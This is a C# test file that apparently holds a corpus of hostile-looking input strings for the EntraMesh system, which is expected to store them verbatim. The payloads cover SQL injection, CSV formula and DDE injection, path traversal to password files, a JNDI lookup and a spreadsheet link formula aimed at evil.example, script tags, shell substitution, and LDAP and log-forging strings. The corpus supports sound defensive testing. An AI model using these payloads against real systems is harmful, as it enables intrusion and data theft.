namespace EntraMesh.HostileInput.Tests.Corpus;

/// <summary>
/// Hostile text that is nevertheless valid data: an HR system may well send a name like this, and EntraMesh must store
/// it verbatim and never interpret it (SQL, spreadsheets, templates, shells, LDAP, SCIM filters, its own expressions).
/// </summary>
public static class Payloads
{
    public static readonly IReadOnlyList<(string Name, string Text)> Sql =
    [
        ("SQL quote and drop", "Robert'); DROP TABLE accepted_record;--"),
        ("SQL tautology", "' OR '1'='1"),
        ("SQL stacked sleep", "1; SELECT pg_sleep(30)--"),
        ("SQL COPY TO PROGRAM", "'; COPY (SELECT 1) TO PROGRAM 'touch /tmp/entramesh-pwned';--"),
        ("SQL dollar quoting", "$$; DROP SCHEMA ingest CASCADE; $$"),
        ("SQL escaped quote", "\\'; DELETE FROM worker_state; --"),
        ("SQL LIKE wildcard", "%' OR 1=1 --"),
        ("SQL comment block", "O'Brien /* */ UNION SELECT secret FROM pg_authid --"),
    ];

    public static readonly IReadOnlyList<(string Name, string Text)> CsvFormula =
    [
        ("CSV formula DDE", "=cmd|' /C calc'!A0"),
        ("CSV formula HYPERLINK", "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")"),
        ("CSV formula plus", "+SUM(1,1)"),
        ("CSV formula minus", "-2+3+cmd|' /C notepad'!'A1'"),
        ("CSV formula at", "@SUM(1+1)*cmd|' /C calc'!A0"),
        ("CSV formula tab", "\t=1+1"),
    ];

    public static readonly IReadOnlyList<(string Name, string Text)> Traversal =
    [
        ("path traversal unix", "../../../../etc/passwd"),
        ("path traversal windows", "..\\..\\..\\windows\\win.ini"),
        ("path traversal encoded", "%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
        ("path traversal doubled", "....//....//etc/shadow"),
    ];

    public static readonly IReadOnlyList<(string Name, string Text)> OtherInjection =
    [
        ("JNDI lookup", "${jndi:ldap://evil.example/a}"),
        ("template", "{{7*7}}${7*7}<%= 7*7 %>"),
        ("script tag", "<script>alert(document.cookie)</script>"),
        ("attribute breakout", "\"><img src=x onerror=alert(1)>"),
        ("shell substitution", "$(touch /tmp/entramesh-pwned)`id`"),
        ("NoSQL operator", "{\"$ne\": null}"),
        ("LDAP filter", "*)(uid=*))(|(uid=*"),
        ("LDAP DN", "CN=Evil,OU=Domain Controllers,DC=contoso,DC=com"),
        ("SCIM filter", "x\" or userName pr or \""),
        ("EntraMesh expression", "Join(\"@\", [WorkerID], \"evil.example\")"),
        ("log forging", "Eve\r\n2026-01-01 [Critical] Ingest: secret=hunter2"),
        ("ANSI escape", "\u001b[31mred\u001b[0m\u001b]0;title\u0007"),
        ("format string", "%s%s%s%n{0}{1}{999}"),
    ];

    public static readonly IReadOnlyList<(string Name, string Text)> Unicode =
    [
        ("right-to-left override", "Ali\u202Ecod.exe\u202C"),
        ("zero-width characters", "Ad\u200Bmi\u200Dn\u2060"),
        ("BOM inside a value", "\uFEFFMaria"),
        ("Cyrillic homoglyphs", "\u0410dmin\u0456strat\u043Er"),
        ("combining marks", "Z\u0335\u0321a\u0338l\u0336g\u0335o\u0336\u0322"),
        ("decomposed accent", "Jose\u0301"),
        ("emoji sequence", "\U0001F469\u200D\U0001F4BB Dev"),
        ("noncharacter", "End\uFFFF\uFFFE"),
        ("line separators", "One\u2028Two\u2029Three\u0085Four"),
        ("full-width digits", "\uFF11\uFF12\uFF13"),
        ("Turkish dotted I", "\u0130stanbul \u0131"),
        ("astral mathematical letters", "\U0001D573\U0001D58A\U0001D591\U0001D591\U0001D594"),
        ("very long name", new string('A', 4000)),
    ];

    public static readonly IReadOnlyList<(string Name, string Text)> HugeNumbers =
    [
        ("number beyond double", "1e309"),
        ("number beyond long", "99999999999999999999999999999999999999"),
        ("negative beyond long", "-9223372036854775809"),
        ("negative zero", "-0"),
        ("NaN text", "NaN"),
        ("infinity text", "Infinity"),
        ("hex number", "0x7FFFFFFFFFFFFFFF"),
        ("400 digits", new string('9', 400)),
    ];

    /// <summary>Everything above: valid data that must come out as it went in.</summary>
    public static IEnumerable<(string Name, string Text)> AllValid =>
        Sql.Concat(CsvFormula).Concat(Traversal).Concat(OtherInjection).Concat(Unicode).Concat(HugeNumbers);
}
